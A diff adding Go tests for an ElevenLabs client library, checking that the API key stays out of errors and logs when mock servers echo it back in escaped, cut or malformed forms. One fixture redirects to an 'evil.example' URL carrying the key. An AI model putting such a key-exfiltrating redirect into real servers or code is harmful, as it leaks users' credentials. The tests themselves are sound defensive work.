@@ -1,0 +1,195 @@
+package elevenlabs_test
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"html"
+	"log/slog"
+	"net"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+
+	elevenlabs "github.com/convai-secrets-go/elevenlabs"
+)
+
+// fragmentKey is a key of the length and shape of ElevenLabs' keys.
+const fragmentKey = "sk_7f3a9c1e5b2d8f4a6c0e9b7d3f1a5c8e2b6d4f0a9c7e3b1d5"
+
+// checkNoKeyFragment fails if s, as written or with its escapes decoded,
+// holds any run of 12 consecutive characters of fragmentKey, in any case.
+func checkNoKeyFragment(t *testing.T, what, s string) {
+	t.Helper()
+	unicodeEscape := regexp.MustCompile(`\\u00[0-7][0-9a-fA-F]`)
+	readings := []string{s, html.UnescapeString(s), unicodeEscape.ReplaceAllStringFunc(s, func(e string) string {
+		v, _ := strconv.ParseUint(e[2:], 16, 8)
+		return string(rune(v))
+	})}
+	if u, err := url.PathUnescape(s); err == nil {
+		readings = append(readings, u)
+	}
+	key := strings.ToLower(fragmentKey)
+	for _, r := range readings {
+		r = strings.ToLower(r)
+		for i := 0; i+12 <= len(key); i++ {
+			if strings.Contains(r, key[i:i+12]) {
+				t.Errorf("%s holds %q of the key: %.300q", what, key[i:i+12], s)
+				return
+			}
+		}
+	}
+}
+
+// errorTexts returns what a caller can read of err: its text, and, down
+// its whole chain, each error's text and each *url.Error's URL.
+func errorTexts(err error) []string {
+	if err == nil {
+		return nil
+	}
+	texts := []string{err.Error(), fmt.Sprintf("%+v", err), fmt.Sprintf("%#v", err)}
+	var apiErr *elevenlabs.APIError
+	if errors.As(err, &apiErr) {
+		texts = append(texts, string(apiErr.Body), fmt.Sprint(apiErr.Header), apiErr.Message, apiErr.Code, apiErr.RequestID)
+	}
+	if u, ok := err.(*url.Error); ok {
+		texts = append(texts, u.URL)
+	}
+	switch u := err.(type) {
+	case interface{ Unwrap() error }:
+		texts = append(texts, errorTexts(u.Unwrap())...)
+	case interface{ Unwrap() []error }:
+		for _, c := range u.Unwrap() {
+			texts = append(texts, errorTexts(c)...)
+		}
+	}
+	return texts
+}
+
+// TestNoPartOfTheKeyInAnyOutput: a server that echoes the key in ways
+// that break it (cut at a limit, an escape scrubString does not read, a
+// character inserted into it) or where only the chain of errors shows it
+// gets no 12 consecutive characters of it into the error's text, the
+// fields of any error down its chain, or the log.
+func TestNoPartOfTheKeyInAnyOutput(t *testing.T) {
+	key := func(r *http.Request) string { return r.Header.Get("xi-api-key") }
+	type tc struct {
+		name   string
+		h      http.Handler
+		limit  int64
+		marked bool // the error's text shows [REDACTED]
+	}
+	var cases []tc
+	for _, kept := range []int{1, 4, 11, 12, 30, 50} {
+		cases = append(cases, tc{fmt.Sprintf("200 body cut %d bytes into the key by the excerpt", kept),
+			http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				w.WriteHeader(200)
+				fmt.Fprint(w, strings.Repeat(" ", 64<<10-kept)+key(r))
+			}), 0, kept >= 4})
+		cases = append(cases, tc{fmt.Sprintf("401 body cut %d bytes into an escaped key by the limit", kept),
+			http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				w.WriteHeader(401)
+				fmt.Fprint(w, `{"detail":"`+strings.Repeat("x", 500)+`\u0073`+key(r)[1:]+`"}`)
+			}), int64(len(`{"detail":"`) + 500 + 5 + kept), false})
+	}
+	cases = append(cases,
+		tc{"an HTML reference with leading zeros", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			w.WriteHeader(401)
+			fmt.Fprint(w, `{"detail":"bad &#00000115;`+key(r)[1:]+`"}`)
+		}), 0, true},
+		tc{"a named reference decodeUnit does not read", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			w.WriteHeader(500)
+			fmt.Fprint(w, `<p>bad sk&lowbar;`+key(r)[3:]+`</p>`)
+		}), 0, true},
+		tc{"a zero-width space inside", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			w.WriteHeader(401)
+			fmt.Fprint(w, `{"detail":"bad `+key(r)[:25]+"\u200b"+key(r)[25:]+`"}`)
+		}), 0, true},
+		tc{"a redirect whose Location holds it", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			w.Header().Set("Location", "https://evil.example/cb?k="+key(r))
+			w.WriteHeader(http.StatusFound)
+		}), 0, true},
+	)
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			srv := faultServer(t, c.h)
+			var log bytes.Buffer
+			opts := []elevenlabs.Option{elevenlabs.WithAPIKey(fragmentKey), elevenlabs.WithBaseURL(srv.URL), elevenlabs.WithMaxRetries(0),
+				elevenlabs.WithLogger(slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug})))}
+			if c.limit > 0 {
+				opts = append(opts, elevenlabs.WithMaxResponseBytes(c.limit))
+			}
+			client, err := elevenlabs.New(opts...)
+			if err != nil {
+				t.Fatal(err)
+			}
+			_, err = client.GetSecret(context.Background(), "sec_1")
+			if err == nil {
+				t.Fatal("GetSecret succeeded")
+			}
+			for _, text := range errorTexts(err) {
+				checkNoKeyFragment(t, "the error's chain", text)
+			}
+			checkNoKeyFragment(t, "the log", log.String())
+			if c.marked && !strings.Contains(err.Error(), "[REDACTED]") {
+				t.Errorf("the error does not mark the redaction: %.300s", err)
+			}
+		})
+	}
+}
+
+// TestKeyQuotedByTheHTTPLayer: net/http quotes what a server sent in its
+// errors (a malformed status line, a header line without a colon); a
+// server that sends the key there gets it neither into the error's text
+// nor into any error down its chain, and the chain still says what
+// failed (errors.As finds the *url.Error, with its Op and scrubbed URL).
+func TestKeyQuotedByTheHTTPLayer(t *testing.T) {
+	for name, reply := range map[string]func(key string) string{
+		"status line":               func(key string) string { return key + "\r\n\r\n" },
+		"header line with no colon": func(key string) string { return "HTTP/1.1 200 OK\r\n" + key + "\r\n\r\n" },
+	} {
+		t.Run(name, func(t *testing.T) {
+			ln, err := net.Listen("tcp", "127.0.0.1:0")
+			if err != nil {
+				t.Fatal(err)
+			}
+			t.Cleanup(func() { ln.Close() })
+			go func() {
+				for {
+					conn, err := ln.Accept()
+					if err != nil {
+						return
+					}
+					req, err := http.ReadRequest(bufio.NewReader(conn))
+					if err == nil {
+						fmt.Fprint(conn, reply(req.Header.Get("xi-api-key")))
+					}
+					conn.Close()
+				}
+			}()
+			client, err := elevenlabs.New(elevenlabs.WithAPIKey(fragmentKey), elevenlabs.WithBaseURL("http://"+ln.Addr().String()), elevenlabs.WithMaxRetries(0))
+			if err != nil {
+				t.Fatal(err)
+			}
+			_, err = client.GetSecret(context.Background(), "sec_1")
+			if err == nil {
+				t.Fatal("GetSecret succeeded")
+			}
+			for _, text := range errorTexts(err) {
+				checkNoKeyFragment(t, "the error's chain", text)
+			}
+			var urlErr *url.Error
+			if !errors.As(err, &urlErr) || urlErr.Op != "Get" || !strings.HasSuffix(urlErr.URL, "/v1/convai/secrets/sec_1") {
+				t.Errorf("errors.As finds no *url.Error for the GET in %v", err)
+			}
+			if !strings.Contains(err.Error(), "[REDACTED]") {
+				t.Errorf("the error does not mark the redaction: %s", err)
+			}
+		})
+	}
+}
